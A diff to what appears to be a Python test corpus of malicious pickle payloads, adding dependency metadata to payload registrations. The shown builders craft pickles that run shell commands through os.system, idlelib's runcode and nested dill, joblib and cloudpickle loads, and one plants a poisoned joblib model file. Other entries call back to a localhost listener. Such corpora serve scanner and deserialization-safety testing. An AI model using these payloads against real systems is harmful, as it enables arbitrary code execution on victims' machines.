@@ -218,6 +218,10 @@ class Payload:
 
 _REG = {}
 
+# needs: "listener" (ctx.port), "attackmods" (worker --sys-path), anything
+# else is a module that must be importable here and in the worker.
+NOT_MODULES = {"listener", "attackmods"}
+
 
 def payload(name, target, **meta):
     """Register builder(ctx) -> (data, check) or a Payload, under name."""
@@ -454,7 +458,7 @@ def _(ctx):
                 EMPTY_DICT)), _file(ctx)
 
 
-@payload("idlelib-run-Executive.runcode", "idlelib.run:Executive")
+@payload("idlelib-run-Executive.runcode", "idlelib.run:Executive", needs=frozenset({"idlelib"}))
 def _(ctx):
     ex = C(G("idlelib.run", "Executive"), NONE)
     return pk(C(G("idlelib.run", "Executive.runcode"), ex, U(_py(ctx)))), _file(ctx)
@@ -492,7 +496,8 @@ def _(ctx):
             {src: fortran.encode()})
 
 
-@payload("cloudpickle-function-rebuild", "cloudpickle's function rebuilders")
+@payload("cloudpickle-function-rebuild", "cloudpickle's function rebuilders",
+         needs=frozenset({"cloudpickle"}))
 def _(ctx):
     # A real cloudpickle stream of a dynamic function (rebuilt by
     # cloudpickle.cloudpickle's _builtin_type/_make_function...), then REDUCE
@@ -830,7 +835,7 @@ def _(ctx):
     return pk(C(G("urllib.request", "urlopen"), U("http://127.0.0.1:%d/" % ctx.port))), ("connect",)
 
 
-@payload("requests-get", "requests:get", needs=frozenset({"listener"}))
+@payload("requests-get", "requests:get", needs=frozenset({"listener", "requests"}))
 def _(ctx):
     return pk(C(G("requests", "get"), U("http://127.0.0.1:%d/" % ctx.port))), ("connect",)
 
@@ -862,18 +867,18 @@ def _(ctx):
     return pk(C(G("_pickle", "loads"), B(_os_system(ctx, 5)))), _file(ctx)
 
 
-@payload("dill-loads", "dill:loads")
+@payload("dill-loads", "dill:loads", needs=frozenset({"dill"}))
 def _(ctx):
     return pk(C(G("dill", "loads"), B(_os_system(ctx)))), _file(ctx)
 
 
-@payload("joblib-load", "joblib:load")
+@payload("joblib-load", "joblib:load", needs=frozenset({"joblib"}))
 def _(ctx):
     f = ctx.plant / "planted_model.joblib"
     return pk(C(G("joblib", "load"), U(str(f)))), _file(ctx), {f: _os_system(ctx)}
 
 
-@payload("cloudpickle-loads", "cloudpickle:loads")
+@payload("cloudpickle-loads", "cloudpickle:loads", needs=frozenset({"cloudpickle"}))
 def _(ctx):
     return pk(C(G("cloudpickle", "loads"), B(_os_system(ctx)))), _file(ctx)
 
@@ -1249,7 +1254,7 @@ def _(ctx):
 
 
 @payload("nested-vllm-method-cloudpickle", "shape: nested pickle in a bytes method",
-         decode="vllm-shm", untrusted=True, expect=frozenset({"posix:system"}))
+         decode="vllm-shm", untrusted=True, needs=frozenset({"cloudpickle"}), expect=frozenset({"posix:system"}))
 def _(ctx):
     import cloudpickle
     inner = cloudpickle.dumps(R(os.system, _sh(ctx)))
